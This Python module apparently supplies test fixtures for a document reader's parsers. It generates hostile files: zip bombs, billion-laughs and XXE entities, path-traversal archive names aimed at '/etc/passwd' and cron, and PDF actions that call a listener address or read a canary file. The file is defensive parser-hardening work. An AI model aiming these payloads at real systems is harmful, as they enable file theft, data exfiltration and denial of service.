"""Malformed and malicious files, made from a seed: what a stranger might attach.

Each has a name that says what it is. What a file could reach for, were its parser careless, is the
`canary` (a file) and the `listener` (an address on this machine).
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from reader.office_files import (
    WORD,
    docx,
    epub,
    heading,
    odf,
    paragraph,
    pptx,
    xlsx,
    zipped,
)
from reader.pdf_files import _file, pdf

Way = Callable[[random.Random, bytes], bytes]
FILL = "<!-- " + "x" * 20_000 + " -->"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file: what is wrong with it, the name it comes under, and its bytes."""

    what: str
    name: str
    raw: bytes


def files(seed: int, canary: str, listener: str) -> Iterator[Hostile]:
    """All of them; every file differs from seed to seed where chance has a part."""
    chance = random.Random(seed)
    yield from _mutated(chance)
    for what, raw in _pdfs(canary, listener):
        yield Hostile(what, "hostile.pdf", raw)
    yield from _archives(chance)
    yield from _entities(canary, listener)
    yield from _structures(canary, listener)


def _mutated(chance: random.Random) -> Iterator[Hostile]:
    """Good files of each kind, cut, with bytes flipped, parts repeated, parts left out."""
    pages = [f"Page {n} tells of ferries.\nThey leave at 05:{n:02}." for n in range(8)]
    good = {
        "a.pdf": pdf(pages, [("One", 1), ("Two", 5)]),
        "a.docx": docx(heading("Of storms") + paragraph("They roar.") * 20),
        "a.pptx": pptx([("Storms", "They roar.")] * 5, notes="Slowly."),
        "a.xlsx": xlsx({"Fares": [["port", "fare"], ["Oban", 3.5]] * 9}),
        "a.epub": epub([f"<h1>{n}</h1><p>It ended.</p>" for n in range(5)]),
        "a.odt": odf("text", '<text:h text:outline-level="1">A</text:h><text:p>b</text:p>' * 9),
        "a.html": (f"<h1>A</h1><p>b<table><tr><td>c</table>{FILL}" * 2).encode(),
        "a.zip": zipped({f"{n}.txt": f"text {n}\n" * 30 for n in range(6)}),
    }
    ways = (_cut, _flipped, _repeated, _without, _inserted)
    for name, raw in good.items():
        for number in range(42 if name == "a.pdf" else 15):
            way = ways[number % len(ways)]
            inside = raw.startswith(b"PK") and number % 4
            broken = _inside(chance, way, raw) if inside else way(chance, raw)
            yield Hostile(f"{name} {way.__name__} {number}", name, broken)


def _inside(chance: random.Random, way: Way, raw: bytes) -> bytes:
    """A sound archive of which one member is mutated."""
    with zipfile.ZipFile(io.BytesIO(raw)) as file:
        members: dict[str, str | bytes] = {name: file.read(name) for name in file.namelist()}
    name = chance.choice([name for name in members if len(members[name]) > 9])
    return zipped({**members, name: way(chance, file_bytes(members[name]))})


def file_bytes(content: str | bytes) -> bytes:
    return content if isinstance(content, bytes) else content.encode()


def _cut(chance: random.Random, raw: bytes) -> bytes:
    return raw[: chance.randrange(5, len(raw))]


def _flipped(chance: random.Random, raw: bytes) -> bytes:
    broken = bytearray(raw)
    for _ in range(chance.randint(1, 1 + len(raw) // 40)):
        broken[chance.randrange(8, len(raw))] ^= 1 << chance.randrange(8)
    return bytes(broken)


def _repeated(chance: random.Random, raw: bytes) -> bytes:
    start = chance.randrange(len(raw))
    end = min(len(raw), start + chance.randint(1, 400))
    return raw[:end] + raw[start:end] * chance.randint(1, 50) + raw[end:]


def _without(chance: random.Random, raw: bytes) -> bytes:
    start = chance.randrange(8, len(raw))
    return raw[:start] + raw[start + chance.randint(1, 300) :]


def _inserted(chance: random.Random, raw: bytes) -> bytes:
    at = chance.randrange(8, len(raw))
    return raw[:at] + chance.randbytes(chance.randint(1, 300)) + raw[at:]


PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >>"
HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
WORDS = "BT /F1 12 Tf 72 700 Td (The ferry leaves at five past midnight.) Tj ET"


def _stream(content: str, about: str = "") -> str:
    return f"<< /Length {len(content)} {about} >>\nstream\n{content}\nendstream"


def _document(*more: str, root: str = "", page: str = "", font: str = HELVETICA) -> bytes:
    """A file of one page; objects 6 and on are `more`."""
    return _file(
        [
            f"<< /Type /Catalog /Pages 2 0 R {root} >>",
            "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            font,
            f"{PAGE} /Contents 5 0 R {page} >>",
            _stream(WORDS),
            *more,
        ]
    )


def _pdfs(canary: str, listener: str) -> Iterator[tuple[str, bytes]]:
    """Files that loop, nest, count wrong, or ask for something to be done."""
    script = f"app.launchURL('http://{listener}/'); util.readFileIntoStream('{canary}');"
    actions = {
        "JavaScript": f"/S /JavaScript /JS ({script})",
        "Launch": f"/S /Launch /F ({canary}) /Win << /F ({canary}) >>",
        "URI": f"/S /URI /URI (http://{listener}/)",
        "GoToR": f"/S /GoToR /F ({canary}) /D [0 /Fit]",
        "SubmitForm": f"/S /SubmitForm /F (http://{listener}/) /Flags 0",
        "ImportData": f"/S /ImportData /F ({canary})",
    }
    for what, action in actions.items():
        yield f"{what} when opened", _document(root=f"/OpenAction << {action} >>")
        yield f"{what} when a page opens", _document(page=f"/AA << /O << {action} >> >>")
    embedded = "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    yield (
        "an embedded file",
        _document(
            f"<< /Type /Filespec /F ({canary}) /EF << /F 7 0 R >> >>", _stream("MZ"), root=embedded
        ),
    )
    yield "a stream in a file outside", _document(_stream("", f"/F ({canary})"))
    external = "/Filter /FlateDecode"
    bomb = zlib.compress(b"BT (x) Tj ET " * 1_000_000).decode("latin-1")
    yield (
        "a page of 13 MB, packed",
        _file(
            [
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
                HELVETICA,
                f"{PAGE} /Contents 5 0 R >>",
                _stream(bomb, external),
            ]
        ),
    )
    yield "nested arrays", _document("[" * 100_000 + "]" * 100_000)
    yield "nested dictionaries", _document("<< /A " * 50_000 + "1" + " >>" * 50_000)
    yield (
        "pages that are their own children",
        _file(
            ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]
        ),
    )
    for count in (10_000, 2_000_000_000, -1):
        yield (
            f"{count} pages that are not there",
            _file(
                ["<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [] /Count {count} >>"]
            ),
        )
    yield (
        "an outline that goes in a circle",
        _document(
            "<< /First 7 0 R /Last 7 0 R /Count 9 >>",
            "<< /Title (a) /Parent 6 0 R /Next 8 0 R /First 6 0 R /Dest [4 0 R /Fit] >>",
            "<< /Title (b) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [4 0 R /Fit] >>",
            root="/Outlines 6 0 R",
        ),
    )
    form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    yield (
        "a form that draws itself",
        _document(_stream("/X Do /X Do", form), page="/Resources << /XObject << /X 6 0 R >> >>"),
    )
    glyph = "/FontMatrix [1 0 0 1 0 0] /FontBBox [0 0 9 9] /FirstChar 65 /LastChar 90"
    drawn = "/CharProcs << /A 6 0 R >> /Resources << /Font << /F1 3 0 R >> >>"
    own = f"<< /Type /Font /Subtype /Type3 {glyph} {drawn}"
    yield (
        "a font whose letters are written in itself",
        _document(
            _stream("BT /F1 9 Tf (AAAA) Tj ET"),
            font=f"{own} /Encoding << /Differences [65 /A] >> /Widths [9] >>",
        ),
    )
    yield (
        "a font made of itself",
        _document(
            font="<< /Type /Font /Subtype /Type0 /BaseFont /X /DescendantFonts [3 0 R]"
            " /Encoding /Identity-H /ToUnicode 3 0 R >>"
        ),
    )
    yield (
        "a font program of noise",
        _document(
            "<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>",
            _stream("\0\1\0\0" + "\xff" * 3_000),
            font="<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >>",
        ),
    )
    filters = "/Filter [" + "/FlateDecode " * 5_000 + "]"
    yield "five thousand filters", _document(_stream("x", filters))
    yield "a length that is its own", _document("<< /Length 6 0 R >>\nstream\nx\nendstream")
    whole = pdf(["The ferry leaves at five past midnight."])
    start = whole.rindex(b"startxref")
    yield (
        "tables of places in a circle",
        (
            whole[:start].replace(b"/Size", f"/Prev {whole.index(b'xref')} /Size".encode())
            + whole[start:]
        ),
    )
    yield "places beyond the file", whole[:start] + b"startxref\n99999999999999999999\n%%EOF"
    yield "objects without end", b"%PDF-1.7\n" + b"1 0 obj\n<< /A " * 50_000
    yield (
        "protected by an unknown method",
        whole.replace(b"trailer\n<<", b"trailer\n<< /Encrypt << /Filter /None /V 99 /R 99 >>"),
    )
    yield "no more than a header", b"%PDF-1.7"


def _archives(chance: random.Random) -> Iterator[Hostile]:
    """Archives that unpack to too much, name what is elsewhere, or lie about themselves."""
    zeros = b"0" * 20_000_000
    yield Hostile("a bomb", "bomb.zip", zipped({"a.txt": zeros}))
    many = {f"{n}.txt": b"0" * 900_000 for n in range(240)}
    yield Hostile("a bomb in small pieces", "bomb.zip", zipped(many))
    inner = zipped({"a.txt": "x"})
    for _ in range(30):
        inner = zipped({"inner.zip": inner})
    yield Hostile("archives in archives", "nested.zip", inner)
    yield Hostile("a bomb as a text", "bomb.docx", zipped({"word/document.xml": zeros}))
    yield Hostile("a bomb as a book", "bomb.epub", zipped({"META-INF/container.xml": zeros}))
    yield Hostile(
        "a bomb as a sheet", "bomb.xlsx", zipped({"xl/workbook.xml": "<a/>", "xl/x.xml": zeros})
    )
    yield Hostile("30,000 files", "many.zip", zipped({f"{n}": "" for n in range(30_000)}))
    for name in ("../../../etc/cron.d/x", "/etc/passwd", "C:\\x", "a\x1b[2Jb", "a\nb", "con", "."):
        yield Hostile(f"a file called {name!r}", "names.zip", zipped({name: "words\n" * 9}))
        chapters = epub(["<p>words</p>"])
        moved = chapters.replace(b"OPS/c 0.xhtml", b"../../passwd ")
        yield Hostile(f"a book beside {name!r}", "names.epub", moved)
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as file:
        about = zipfile.ZipInfo("link.txt")
        about.external_attr = 0o120777 << 16
        file.writestr(about, "/etc/passwd")
    yield Hostile("a link", "link.zip", link.getvalue())
    good = zipped({"a.txt": "words\n" * 99})
    for size in (0, 1, 2**31, 2**32 - 1):
        told = struct.pack("<I", size)
        place = good.index(b"PK\x01\x02")
        lying = good[: place + 24] + told + good[place + 28 :]
        yield Hostile(f"a file that says it has {size} bytes", "lies.zip", lying)
    for number in range(6):
        tail = chance.randbytes(22)
        yield Hostile(f"an end of noise {number}", "noise.zip", good[:-22] + b"PK\x05\x06" + tail)


BILLION = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))


def _entities(canary: str, listener: str) -> Iterator[Hostile]:
    """Entities in every kind of XML: they multiply, or stand for what is elsewhere."""
    declared = {
        "a billion laughs": (BILLION, "&a9;"),
        "a quadratic blow-up": (f'<!ENTITY x "{"x" * 50_000}">', "&x;" * 20_000),
        "a file": (f'<!ENTITY x SYSTEM "file://{canary}">', "&x;"),
        "an address": (f'<!ENTITY x SYSTEM "http://{listener}/">', "&x;"),
        "a parameter": (f'<!ENTITY % x SYSTEM "http://{listener}/d"> %x;', "words"),
        "an entity of itself": ('<!ENTITY x "&y;"><!ENTITY y "&x;">', "&x;"),
    }
    for what, (entities, used) in declared.items():
        dtd = f"<!DOCTYPE x [{entities}]>"
        body = f"<w:p><w:r><w:t>words {used}</w:t></w:r></w:p>"
        row = f'<row><c t="inlineStr"><is><t>words {used}</t></is></c></row>'
        yield Hostile(f"{what} in a text", "x.docx", docx(body, before=dtd))
        yield Hostile(f"{what} in a slide", "x.pptx", pptx([("a", "b")], before=dtd))
        yield Hostile(f"{what} in a sheet", "x.xlsx", xlsx({"A": []}, before=dtd, raw=row))
        yield Hostile(f"{what} in a book", "x.epub", epub([f"<p>{used}</p>"], before=dtd))
        text = odf("text", f"<text:p>words {used}</text:p>", before=dtd)
        yield Hostile(f"{what} in an open text", "x.odt", text)
        page = f"{dtd}<p>words {used}</p>{FILL}"
        yield Hostile(f"{what} in a page", "x.html", page.encode())
    outside = f'<!DOCTYPE x SYSTEM "http://{listener}/x.dtd">'
    yield Hostile("a DTD elsewhere", "x.docx", docx(paragraph("words"), before=outside))
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{canary}"/>'
    yield Hostile("an inclusion", "x.docx", docx(include + paragraph("words")))
    sheet = f'<?xml-stylesheet href="http://{listener}/s.xsl"?>'
    yield Hostile("a style sheet elsewhere", "x.docx", docx(paragraph("words"), before=sheet))


def _structures(canary: str, listener: str) -> Iterator[Hostile]:
    """Depth, width and counts that parsers trip over; references that lead out."""
    deep = 200_000
    yield Hostile("a deep text", "x.docx", docx("<w:p>" * deep + "</w:p>" * deep))
    loop = "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3000}"/></w:style>'
        for n in range(3_000)
    )
    styles = f'<w:styles xmlns:w="{WORD}">{loop}</w:styles>'
    yield Hostile("styles in a circle", "x.docx", docx(paragraph("a"), {"word/styles.xml": styles}))
    yield Hostile("60,000 headings", "x.docx", docx(heading("A") * 60_000))
    tags = ("div", "table><tr><td", "ul><li", "b", "h1", "font", "svg", "select", "pre", "p")
    for tag in tags:
        yield Hostile(f"deep <{tag}>", "x.html", f"<{tag}>".encode() * 100_000 + b"words")
    yield Hostile("a wide page", "x.html", b"<a href=x>" * 200_000)
    yield Hostile("one long attribute", "x.html", b"<p title='" + b"x" * 5_000_000)
    yield Hostile("noise as a page", "x.html", random.Random(1).randbytes(300_000))
    yield Hostile("a page of nothing", "x.html", b"\0" * 30_000)
    odd = ("utf-7", "idna", "punycode", "unicode_escape", "rot13", "zlib", "cp037", "x" * 39)
    for charset in odd:
        page = f"<meta charset={charset}><p>words +ADw-{FILL}".encode()
        yield Hostile(f"letters as {charset}", "x.html", page)
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    near = '<row r="1"><c r="A1"><v>1</v></c></row>'
    yield Hostile("a sheet with far corners", "x.xlsx", xlsx({"A": []}, raw=near + far))
    beyond = '<row r="99999999999"><c r="ZZZZZZZZ99999999999"><v>1</v></c></row>'
    yield Hostile("a cell beyond the sheet", "x.xlsx", xlsx({"A": []}, raw=near + beyond))
    wrong = '<row r="1"><c r="A1" t="s"><v>4000000000</v></c><c t="d"><v>x</v></c></row>'
    yield Hostile("strings that are not there", "x.xlsx", xlsx({"A": []}, raw=wrong))
    yield Hostile("300 sheets", "x.xlsx", xlsx({f"S{n}": [[1.0]] for n in range(300)}))
    for count in (1_000_000, 2_000_000_000, -1):
        cell = (
            f'<table:table-cell office:value-type="string" office:string-value="x"'
            f' table:number-columns-repeated="{count}"><text:p>x</text:p></table:table-cell>'
        )
        again = f'table:number-rows-repeated="{count}"'
        row = f"<table:table-row {again}>{cell}</table:table-row>"
        table = f'<table:table table:name="S">{row}</table:table>'
        yield Hostile(f"a cell that stands {count} times", "x.ods", odf("spreadsheet", table))
    for target in (f"file://{canary}", f"http://{listener}/", canary, "../" * 30 + canary):
        relations = '<Relationships><Relationship Id="s0" Target="' + target + '"/></Relationships>'
        slide = '<a><sldId id="1" r:id="s0" xmlns:r="r"/></a>'
        members = {
            "ppt/presentation.xml": slide,
            "ppt/_rels/presentation.xml.rels": relations,
        }
        yield Hostile(f"a slide at {target[:12]}", "x.pptx", zipped(members))
        picture = f'<img src="{target}"><link rel=stylesheet href="{target}"><p>words'
        yield Hostile(f"a page with {target[:12]}", "x.html", f"{picture}{FILL}".encode())
        frame = f'<frame src="{target}"/><p>words</p>'
        yield Hostile(f"a book with {target[:12]}", "x.epub", epub([frame + picture]))
    yield Hostile("a spine without end", "x.epub", epub(["<p>x</p>"] * 3_000))
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    for number in range(8):
        noise = random.Random(number).randbytes(4_000)
        yield Hostile(f"an old workbook of noise {number}", "x.xls", old + noise)
